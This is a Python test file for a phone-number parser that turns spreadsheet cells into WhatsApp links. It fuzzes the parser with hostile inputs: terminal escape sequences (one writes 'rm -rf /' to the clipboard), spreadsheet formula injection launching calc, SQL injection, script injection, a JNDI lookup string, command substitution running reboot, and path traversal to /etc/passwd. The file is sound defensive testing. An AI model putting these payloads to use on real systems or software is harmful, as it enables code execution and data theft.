"""Tests of hostile cells: each is read or refused quickly, in a message that is safe to print.

python -m pytest --long=full tests/phone/test_hostile.py     # 100,000 random cells
"""

from __future__ import annotations

import csv
import io
import json
import os
import random
import time
import unicodedata
from typing import TYPE_CHECKING

import phonenumbers
import pytest

from wa_link.batch.linker import link_rows
from wa_link.batch.outcome import Accepted, Rejected
from wa_link.errors import PhoneError, Reason
from wa_link.phone import PhoneNumber, parse_phone
from wa_link.sheets.sheet import Sheet

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.conftest import Run

NUMBER = "+44 7911 123456"
NAUGHTY: dict[str, list[str]] = {
    "escape sequences": [
        "\x1b[31m+447911123456\x1b[0m",
        "\x1b[2J\x1b[H0501234567",
        "+44\x1b[10D7911123456",
        "\x1b[1A\x1b[2K+447911123456",
        "\x1b]8;;https://example.org\x1b\\+447911123456\x1b]8;;\x1b\\",
        "\x1b]52;c;cm0gLXJmIC8=\x07",
        "\x1b]0;new title\x07050",
        "\x1b[?1049h",
        "\x1b[6n",
        "\x1bc",
        "\x1bP+q544e\x1b\\",
        "\x9b31m0501234567",
        "\x9d52;c;AAAA\x9c",
        "\x90q\x9c",
        "\x1b",
        "\x1b" * 50,
    ],
    "control characters": [
        "\x07+447911123456",
        "+447911123456\x08\x08\x08\x08999",
        "+44791112345\x7f6",
        "+447911\x00123456",
        "\x00",
        "+44 7911\r999 999999",
        "050123\x0b4567",
        "050123\x0c4567",
        "\x0e0501234567\x0f",
        "0501234567\x1a",
        "\x85\u2028\u2029",
        "".join(map(chr, [*range(32), *range(127, 160)])),
        "0501234567\tx\t",
    ],
    "direction and invisible marks": [
        "\u202e654321 1197 44+",
        "+44 \u202e7911\u202c 123456",
        "\u2066+447911123456\u2069",
        "\u2067+447911123456",
        "+\u200b44\u200b7911\u200b123456",
        "\u061c0501234567",
        "\u200f\u200f\u200f",
        "+44\u20607911123456\ufeff",
        "\u180e+447911123456",
        "\ufff9+44\ufffa7911\ufffb123456",
        "+44\U000e00317911123456",
        "\U000e0001\U000e0067\U000e0062\U000e007f",
        "\u00ad" * 100 + NUMBER,
        "call \u202e+447911123456\u202c now",
    ],
    "combining marks": [
        "0\u0336501234567",
        "".join(f"{digit}\u0301\u0302\u0303" for digit in "+447911123456"),
        "Z\u0351\u036b\u0343\u036a\u0302\u0369a\u0333\u0318l\u0340g\u0356o",
        "+" + "\u0489" * 40 + "447911123456",
        "+447911123456" + "\u0301" * 200,
        "0\ufe0f5\ufe0f0\ufe0f1234567",
        "0\U000e01005012345",
        "\u0661\u065b\u0662",
        "0501234567\u20dd",
    ],
    "signs for digits": [
        "0\ufe0f\u20e35\ufe0f\u20e30\ufe0f\u20e31\ufe0f\u20e3",
        "\U0001f51f0501234567",
        "+⁴⁴7911123456",
        "+₄₄7911123456",
        "①②③④⑤⑥⑦⑧⑨⓪",
        "➊➋➌➍➎",
        "+44 Ⅶ911 123456",
        "½0501234567",
        "〇一二三四五六七八九",
        "𝟎𝟓𝟎𝟏𝟐𝟑𝟒𝟓𝟔𝟕",
        "🄀🄁🄂",
        "٪٠٥٠",
        "൦൫൦൧൨൩൪൫൬൭",
        "៰៱៲",
        "𐄇𐄈𐄉",
    ],
    "scripts in a mix": [
        "٠50۱२345６7",
        "+٤٤7911१२३४५६",
        "05O1234567",
        "05О12З4567",
        "+44 79ll 123456",
        "هاتف: 0501234567",
        "电话0501234567",
        "+44\u30007911\u3000123456",
        "＋４４７９１１１２３４５６",
        "﹢447911123456",
        "⁺447911123456",
        "٠٥٠١٢٣٤٥٦٧ و ٠٥٥٩٨٧٦٥٤٣",
    ],
    "formulas": [
        "=1+1",
        "=0501234567",
        '="0501234567"&CHAR(10)',
        '=HYPERLINK("https://example.org","+447911123456")',
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        '=""',
        '="',
        "''''",
        "'=+447911123456",
        "#REF!",
        "#N/A",
    ],
    "code": [
        "'; DROP TABLE contacts; --",
        "0501234567' OR '1'='1",
        "1; SELECT 447911123456",
        "<b>+447911123456</b>",
        "<script>alert(447911123456)</script>",
        "\"><img src=x onerror=alert('0501234567')>",
        "javascript:alert(447911123456)",
        "${jndi:ldap://example.org/0501234567}",
        "$(reboot)",
        "`reboot`",
        "| reboot",
        "{{7*7}}",
        "{0.__class__}",
        "{number}",
        "%s%s%s%n%x",
        "%(phone)s",
        "<!--#exec cmd='ls'-->",
        "&#43;447911123456",
        "&plus;447911123456",
    ],
    "paths and escapes": [
        "../../../../etc/passwd",
        "..\\..\\0501234567",
        "file:///0501234567",
        "\\\\server\\0501234567",
        "/dev/null",
        "%2B447911123456",
        "%252B447911123456",
        "%00447911123456",
        "%",
        "%zz0501234567",
        "https://wa.me/%2B447911%00123456",
        "https://wa.me/%1b[31m447911123456",
        "https://wa.me/%E2%80%AE447911123456",
        "https://wa.me/%ff%fe",
        "tel:%1b%5B31m0501234567",
        "\\u0030\\u0035\\u0030",
    ],
    "links within links": [
        "wa.me/wa.me/447911123456",
        "https://wa.me/https://wa.me/447911123456",
        "https://wa.me//447911123456",
        "https://wa.me@example.org/447911123456",
        "https://example.org/wa.me/447911123456",
        "https://wa.me.example.org/447911123456",
        "https://wa.me:443/447911123456",
        "https://wa.me\\@example.org/447911123456",
        "https://wa.me/447911123456/../447911123457",
        "https://wa.me/447911123456;447911123457",
        "https://wa.me/447911123456?phone=447911123457",
        "https://api.whatsapp.com/send?phone=447911123456&phone=447911123457",
        "https://api.whatsapp.com/send?phone[]=447911123456",
        "https://wa.me/?447911123456",
        "https://[::1]/447911123456",
        "https://[wa.me/447911123456",
        "whatsapp://send?phone=whatsapp://send?phone=447911123456",
        "tel:tel:+447911123456",
        "whatsapp:whatsapp:+447911123456",
        "wa.me/" * 200 + "447911123456",
    ],
    "tel: and chat ids": [
        "tel:",
        "tel:;",
        "tel:;;;;;",
        "tel:+447911123456;ext=",
        "tel:+447911123456;ext=\x1b[31m",
        "tel:+447911123456;ext=;ext=;ext=5",
        "tel:7911123456;phone-context=+44;phone-context=+1",
        "tel:7911123456;phone-context=example.org",
        "tel:7911123456;phone-context=",
        "tel:7911123456;phone-context=++44",
        "tel:+447911123456;phone-context=+1",
        "tel:0501234567;isub=1;=;=;",
        "TEL:+447911123456;EXT=12",
        "447911123456@s.whatsapp.net@s.whatsapp.net",
        "447911123456:99999999999@c.us",
        "@c.us",
        "447911123456-1600000000@g.us",
        "447911123456@lid",
        "status@broadcast",
        "447911123456@c.us.example.org",
    ],
    "fragments of files": [
        "BEGIN:VCARD\nTEL;waid=447911123456:+44 7911 123456\nEND:VCARD",
        "TEL;TYPE=CELL:+447911123456",
        '{"phone": "+447911123456"}',
        '["+447911123456", "+447911123457"]',
        "+447911123456,,,,,\n",
        '"+447911123456',
        "<tel>+447911123456</tel>",
        "phone: +447911123456\nphone: +447911123457",
        "0x2BDF05A9C0",
        "1e1e1",
        "NaN",
        "Infinity",
        "null",
        "None",
        "undefined",
        "True",
    ],
    "sizes": [
        "9" * 16,
        "9" * 251,
        "+" + "0" * 5_000,
        "0" * 5_000,
        "+" * 500 + "447911123456",
        "(" * 5_000 + "447911123456" + ")" * 5_000,
        "[({<" * 500,
        "-" * 5_000,
        "1" + "," * 5_000 + "1",
        "+447911123456" + " " * 5_000 + "(2)",
        "+44" + " " * 9_000 + "7911123456",
        "1E1000000000",
        "9.66501234567E+1000000000",
        "9.66501234567E+999",
        "1E+11",
        "1e-1000000000",
        "0E0",
        "0.000000000000000000000000000001E+40",
        "4.47911123456E+11E+11",
        "966501234567." + "0" * 5_000,
        "1" + ".0" * 500,
    ],
    "the edges of Unicode": [
        "\ud800",
        "\udfff0501234567",
        "+44\ud83d\ude007911123456",
        "\udc1b[31m",
        "\U0010ffff+447911123456",
        "\ufffe\uffff",
        "\ue000\uf8ff0501234567",
        "\U000f0000\U00100000",
        "\ufffd\ufffd",
        "\u0378\u0379",
        "\ufdd0",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "\U0001f1ec\U0001f1e7 +447911123456",
        "\u1160\u3164\u115f0501234567",
        "\u2800\u2800",
    ],
}
CELLS = [(kind, cell) for kind, cells in NAUGHTY.items() for cell in cells]
IDS = [f"{kind} {number}" for number, (kind, _) in enumerate(CELLS)]
every_cell = pytest.mark.parametrize("cell", [cell for _, cell in CELLS], ids=IDS)

FULL = os.environ.get("HYPOTHESIS_PROFILE") == "full"
REGIONS: list[str | None] = [None, *sorted(phonenumbers.SUPPORTED_REGIONS)]
# Control and format characters, halves of surrogate pairs, and line separators.
MOVING = {"Cc", "Cf", "Cs", "Zl", "Zp"}


def assert_moves_nothing(text: str) -> None:
    """Check that a text can't move the cursor, or change the colour or direction of a terminal."""
    moving = {char for char in text if unicodedata.category(char) in MOVING} - {"\n"}
    assert not moving, text


def read(cell: str, region: str | None) -> PhoneNumber | PhoneError:
    try:
        return parse_phone(cell, region)
    except PhoneError as error:
        return error


def assert_read_or_refused(cell: str, region: str | None) -> None:
    """Check that the outcome is a valid number, or an error whose message is one safe line."""
    result = read(cell, region)
    if isinstance(result, PhoneError):
        messages = [result.message]
    else:
        assert phonenumbers.is_valid_number(phonenumbers.parse(result.e164))
        messages = [note.message for note in result.notes]
    for message in messages:
        assert_moves_nothing(message)
        assert "\n" not in message
        assert len(message) < 1_000


def test_the_cells_are_many_and_each_is_one() -> None:
    cells = [cell for _, cell in CELLS]
    assert len(cells) == len(set(cells)) > 200


@every_cell
@pytest.mark.parametrize("region", [None, "SA", "DE", "US", "IT"])
def test_a_hostile_cell_is_read_or_refused(cell: str, region: str | None) -> None:
    assert_read_or_refused(cell, region)


@pytest.mark.parametrize("multiple", ["first", "split", "reject"])
@pytest.mark.parametrize("region", [None, "DE"])
def test_every_hostile_row_has_its_outcome(multiple: str, region: str | None) -> None:
    cells = [cell for _, cell in CELLS]
    sheet = Sheet.from_rows(["phone", "name"], [(cell, cell) for cell in cells])
    numbers = set()
    for outcome in link_rows(sheet, region=region, multiple=multiple):
        numbers.add(outcome.row.number)
        assert outcome.row.cells == (cells[outcome.row.number - 1],) * 2
        match outcome:
            case Accepted(link=link):
                assert link.url.removeprefix("https://wa.me/").isdecimal()
                for note in link.notes:
                    assert_moves_nothing(note.message)
            case Rejected(_, reason, message):
                assert reason
                assert_moves_nothing(message)
    assert numbers == set(range(1, len(cells) + 1))


@every_cell
@pytest.mark.parametrize("command", ["link", "inspect"])
def test_a_hostile_argument_moves_no_cursor(
    wa_link: Callable[..., Run], command: str, cell: str
) -> None:
    for region in ([], ["--region", "DE"]):
        run = wa_link(command, *region, "--", cell)
        assert run.code in (0, 3)
        assert_moves_nothing(run.out)
        assert_moves_nothing(run.err)
        assert run.out if run.code == 0 else run.out + run.err


def as_csv(cells: list[str], header: str) -> str:
    text = io.StringIO(newline="")
    csv.writer(text).writerows([[header, "name"], *([cell, "A"] for cell in cells)])
    return text.getvalue()


def as_lines(cells: list[str], header: str) -> str:
    return "".join(json.dumps({header: cell, "name": "A"}) + "\n" for cell in cells)


def is_text(cell: str) -> bool:
    """Return whether a text can be written as UTF-8."""
    return not any(unicodedata.category(char) == "Cs" for char in cell)


@pytest.mark.parametrize("kind", NAUGHTY)
@pytest.mark.parametrize("header", ["phone", "phone\x1b[31m\u202e"])
@pytest.mark.parametrize(("suffix", "written"), [("csv", as_csv), ("jsonl", as_lines)])
def test_a_hostile_sheet_moves_no_cursor(
    wa_link: Callable[..., Run],
    tmp_path: Path,
    kind: str,
    header: str,
    suffix: str,
    written: Callable[[list[str], str], str],
) -> None:
    cells = [cell for cell in NAUGHTY[kind] if is_text(cell)]
    sheet, links = tmp_path / f"contacts.{suffix}", tmp_path / "links.csv"
    sheet.write_text(written(cells, header), encoding="utf-8", newline="")
    run = wa_link("batch", str(sheet), "--phone-column", "1", "--region", "DE", "-o", str(links))
    assert run.code in (0, 3), run.err
    assert links.exists()
    assert f"{len(cells)} rows" in run.err
    assert_moves_nothing(run.err)


@pytest.mark.parametrize(("suffix", "written"), [("csv", as_csv), ("jsonl", as_lines)])
def test_a_hostile_header_moves_no_cursor(
    wa_link: Callable[..., Run],
    tmp_path: Path,
    suffix: str,
    written: Callable[[list[str], str], str],
) -> None:
    sheet = tmp_path / f"contacts.{suffix}"
    for _, cell in CELLS:
        if is_text(cell) and not cell.isprintable():
            sheet.write_text(written(["1"], cell), encoding="utf-8", newline="")
            run = wa_link("batch", str(sheet), "-o", str(tmp_path / "links.csv"))
            assert_moves_nothing(run.err)
            missing = wa_link("batch", str(sheet), "--phone-column", cell.replace("\x00", "?"))
            assert_moves_nothing(missing.err)


# Random cells, made of parts of hostile cells, of numbers, and of any characters.

PIECES: list[str] = [
    *(cell for _, cell in CELLS if len(cell) < 60),
    *"0123456789+-.,;/|()[]#xX\n\t ",
    *["+44 7911 123456", "0501234567", "966501234567", "tel:", "wa.me/", "https://wa.me/"],
    *["ext", " or ", " و ", "E+11", ".0", "@c.us", ";ext=", "%2B", "%00", "\u202e", "\x1b["],
]


def random_cells(count: int, seed: int) -> list[str]:
    draw = random.Random(seed)  # noqa: S311  (examples, no secrets)

    def piece() -> str:
        match draw.randrange(4):
            case 0:
                return chr(draw.choice((draw.randrange(0x250), draw.randrange(0x110000))))
            case 1:
                return str(draw.randrange(10 ** draw.randrange(1, 13)))
            case 2:
                text = draw.choice(PIECES)
                return text[draw.randrange(len(text)) :]
            case _:
                return draw.choice(PIECES)

    return ["".join(piece() for _ in range(draw.randrange(1, 8))) for _ in range(count)]


def test_random_cells_are_read_or_refused() -> None:
    cells = random_cells(100_000 if FULL else 5_000, seed=1)
    for number, cell in enumerate(cells):
        assert_read_or_refused(cell, REGIONS[number % len(REGIONS)])
    sheet = Sheet.from_rows(["phone"], [(cell,) for cell in cells[:5_000]])
    assert len(list(link_rows(sheet, region="DE"))) == 5_000


# Large cells: a broken field in a spreadsheet or an export can have any size.

LARGE = [
    *["1", "0", "+", " ", "-", "(", "(1)", "[1]", "'", '"', '="', "{", "%", "@", "a", "\n"],
    *["1 ", "1,", "1/", "1;", "1|", "1\n", "1 ", "1-", "1) ", "1 or ", "1 y ", " و1", "1 ::: "],
    *["E+", "1E+", "9.9E+9;", "1.0", "ext", "x1", "x1 ", "#1", ";ext=1", "tel:", "tel:1;"],
    *["wa.me/", "wa.me/1;", "https://wa.me/1", "%25", "a.", "1@c.us", "+1 ", "0170 1234567;"],
    *["0170 1234567 (2)", "2. 0170 1234567 ", "٠", "\u0301", "1\u0301", "\u202e", "\x1b[31m"],
    *["\U0001f600", "\U0010ffff", "\ud800"],
    *["1.1.", "1.5 ", "1-1-", "1,5 ", "(1,", "12.1.90 ", "1:1 ", "1.1.1.1 ", "2001-", "[1.5]"],
    *["Tel. ", "Tel. 1 ", "Fax ", "no ", "none ", ",,1", ",,1#", "p1", "1p1", "1,,1#;", "1 + "],
    *["#REF!", "#", "=", "1&", "x ", "(x)", "\u4e0d\u660e", "1\u6216", "sms:", "1 ya da "],
]
MEGABYTE = 10**6


# The limits are high, for slow machines; code with quadratic time would need hours here.
@pytest.mark.long(daily=20, slice=20)
@pytest.mark.parametrize(("size", "seconds"), [(MEGABYTE, 20), (9_990, 20), (240, 10)])
@pytest.mark.parametrize("part", sorted(set(LARGE)), ids=ascii)
def test_a_large_cell_is_read_fast(part: str, size: int, seconds: float) -> None:
    cell = (part * (size // len(part) + 1))[:size]
    begun = time.process_time()
    assert_read_or_refused(cell, "DE")
    assert_read_or_refused(f"1{cell[: size // 2]}?", "DE")
    assert time.process_time() - begun < seconds


@pytest.mark.parametrize(
    ("cell", "reason"),
    [
        (
            "1" * 300,
            "has 300 characters, too many for a phone number: keep only the phone number.",
        ),
        (
            "1" * MEGABYTE,
            "has 1,000,000 characters, too many for a phone number: keep only the phone number.",
        ),
        (
            "0170 1234567;" * 1_000,
            "has 13,000 characters, too many for a phone number: keep only the phone number.",
        ),
        (
            f"0170 1234567{' ' * 300}(2)",
            "has 315 characters, too many for a phone number: keep only the phone number.",
        ),
    ],
)
def test_a_cell_that_is_too_long_is_refused_at_once(cell: str, reason: str) -> None:
    result = read(cell, "DE")
    assert isinstance(result, PhoneError)
    assert result.reason is Reason.NOT_A_NUMBER
    assert result.message.endswith(reason)


@pytest.mark.parametrize("before", ["https://wa.me/447911123456?text=", "tel:+447911123456;a="])
def test_a_long_text_after_a_number_does_not_hide_it(before: str) -> None:
    assert parse_phone(before + "a" * 50_000).digits == "447911123456"
